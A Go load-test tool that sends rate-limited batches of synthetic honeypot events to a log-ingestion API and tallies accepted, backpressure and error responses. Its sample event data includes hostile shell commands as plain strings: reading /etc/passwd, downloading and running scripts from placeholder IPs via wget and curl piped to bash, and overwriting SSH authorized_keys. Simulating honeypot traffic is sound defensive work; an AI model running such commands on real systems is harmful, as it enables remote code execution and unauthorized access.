package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"math/rand"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/uuid"
	"golang.org/x/time/rate"
)

var (
	commands = []string{
		"uname -a",
		"cat /etc/passwd",
		"wget http://198.51.100.23/%s.sh -O /tmp/x && sh /tmp/x",
		"curl -s http://203.0.113.5/%s | bash",
		"echo %s > ~/.ssh/authorized_keys",
	}
	threatLevels = []string{"low", "medium", "high", "critical"}
)

type honeypotEvent struct {
	SourceIP    string    `json:"sourceIp"`
	Command     string    `json:"command"`
	ThreatLevel string    `json:"threatLevel"`
	Timestamp   time.Time `json:"timestamp"`
}

func syntheticEvent(rng *rand.Rand) honeypotEvent {
	cmd := commands[rng.Intn(len(commands))]
	if bytes.Contains([]byte(cmd), []byte("%s")) {
		cmd = fmt.Sprintf(cmd, uuid.NewString()[:8])
	}
	return honeypotEvent{
		SourceIP:    fmt.Sprintf("203.0.113.%d", rng.Intn(254)+1),
		Command:     cmd,
		ThreatLevel: threatLevels[rng.Intn(len(threatLevels))],
		Timestamp:   time.Now().UTC(),
	}
}

func main() {
	targetURL := flag.String("url", "http://localhost:8080/api/logs", "Target URL for ingestion")
	apiKey := flag.String("api-key", "", "API key for authentication, if the relay requires one")
	concurrency := flag.Int("c", 10, "Number of concurrent workers")
	duration := flag.Duration("d", 30*time.Second, "Duration of the load test")
	rps := flag.Int("rps", 100, "Requests per second limit")
	batch := flag.Int("batch", 1, "Events per request; values above 1 send NDJSON")
	flag.Parse()

	log.Printf("Starting load test on %s", *targetURL)
	log.Printf("Concurrency: %d, Duration: %s, RPS: %d, Batch: %d", *concurrency, *duration, *rps, *batch)

	var wg sync.WaitGroup
	var successCount, backpressureCount, errorCount atomic.Int64
	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()

	limiter := rate.NewLimiter(rate.Limit(*rps), 10)

	for i := 0; i < *concurrency; i++ {
		wg.Add(1)
		go func(workerID int) {
			defer wg.Done()
			client := &http.Client{
				Timeout: 5 * time.Second,
			}
			rng := rand.New(rand.NewSource(time.Now().UnixNano() + int64(workerID)))

			for {
				if err := limiter.Wait(ctx); err != nil {
					return
				}

				var body bytes.Buffer
				enc := json.NewEncoder(&body)
				for j := 0; j < *batch; j++ {
					enc.Encode(syntheticEvent(rng))
				}
				contentType := "application/json"
				if *batch > 1 {
					contentType = "application/x-ndjson"
				}

				req, err := http.NewRequestWithContext(ctx, http.MethodPost, *targetURL, &body)
				if err != nil {
					continue // Should not happen
				}
				req.Header.Set("Content-Type", contentType)
				if *apiKey != "" {
					req.Header.Set("X-API-Key", *apiKey)
				}

				resp, err := client.Do(req)
				if err != nil {
					if ctx.Err() != nil {
						return
					}
					errorCount.Add(1)
					continue
				}

				switch resp.StatusCode {
				case http.StatusAccepted:
					successCount.Add(1)
				case http.StatusServiceUnavailable:
					backpressureCount.Add(1)
				default:
					errorCount.Add(1)
				}
				resp.Body.Close()
			}
		}(i)
	}

	wg.Wait()

	totalRequests := successCount.Load() + backpressureCount.Load() + errorCount.Load()
	actualRPS := float64(totalRequests) / duration.Seconds()

	log.Println("Load test finished.")
	log.Printf("Total Requests: %d", totalRequests)
	log.Printf("Successful (202 Accepted): %d", successCount.Load())
	log.Printf("Backpressure (503): %d", backpressureCount.Load())
	log.Printf("Errors: %d", errorCount.Load())
	log.Printf("Actual RPS: %.2f", actualRPS)
}
